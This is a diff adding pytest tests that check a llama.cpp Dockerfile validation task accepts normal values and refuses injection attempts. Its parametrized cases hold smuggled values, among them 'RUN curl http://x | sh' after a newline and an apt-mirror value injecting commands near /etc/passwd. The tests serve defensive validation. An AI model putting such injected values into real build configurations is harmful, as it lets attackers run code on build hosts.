@@ -146,6 +146,40 @@ def test_the_grafana_data_source_is_one_with_the_user_given():
     assert sources[0]["secureJsonData"]["basicAuthPassword"] == 'pw" with: yaml'
 
 
+# --- llama.cpp's Dockerfile ------------------------------------------------------------------------------
+
+LLAMA_ROLE = os.path.join(ROOT, "roles", "llama_cpp")
+
+
+def dockerfile_check(**extra):
+    """The conditions of the Dockerfile check of llama_cpp/tasks/validate.yml over the defaults + `extra`."""
+    variables = load_yaml(os.path.join(LLAMA_ROLE, "defaults", "main.yml"))
+    variables.update(extra)
+    task = next(t for t in load_yaml(os.path.join(LLAMA_ROLE, "tasks", "validate.yml"))
+                if t["name"].startswith("Check the values the Dockerfile receives"))
+    templar = mon.role_templar(LLAMA_ROLE, variables)
+    return [templar.template("{{ %s }}" % c) for c in task["ansible.builtin.assert"]["that"]]
+
+
+def test_the_dockerfile_values_a_user_means_pass():
+    assert all(dockerfile_check())
+    assert all(dockerfile_check(llama_cpp_builder_apt_mirror="https://mirrors.tuna.tsinghua.edu.cn/ubuntu/",
+                                llama_cpp_builder_packages=["cmake", "g++", "libssl-dev=3.0.2-0ubuntu1.15"],
+                                llama_cpp_cuda_image_registry="registry.lan:5000/mirror",
+                                llama_cpp_builder_image_digest="sha256:" + "a" * 64))
+
+
+@pytest.mark.parametrize("key, value, index", [
+    ("llama_cpp_builder_image", "nvidia/cuda:12.4.1\nRUN curl http://x | sh", 0),
+    ("llama_cpp_runtime_image", "nvidia/cuda:12.4.1 AS x", 1),
+    ("llama_cpp_builder_packages", ["cmake\"\nRUN touch /x\n#"], 2),
+    ("llama_cpp_builder_apt_mirror", "http://m/ubuntu#g' /etc/passwd; touch /x; echo '", 3),
+    ("llama_cpp_builder_apt_mirror", "http://m/ubuntu\n", 3),
+])
+def test_a_dockerfile_value_that_would_become_an_instruction_is_refused(key, value, index):
+    assert dockerfile_check(**{key: value})[index] is False
+
+
 # --- validate: steps --------------------------------------------------------------------------------------
 
 
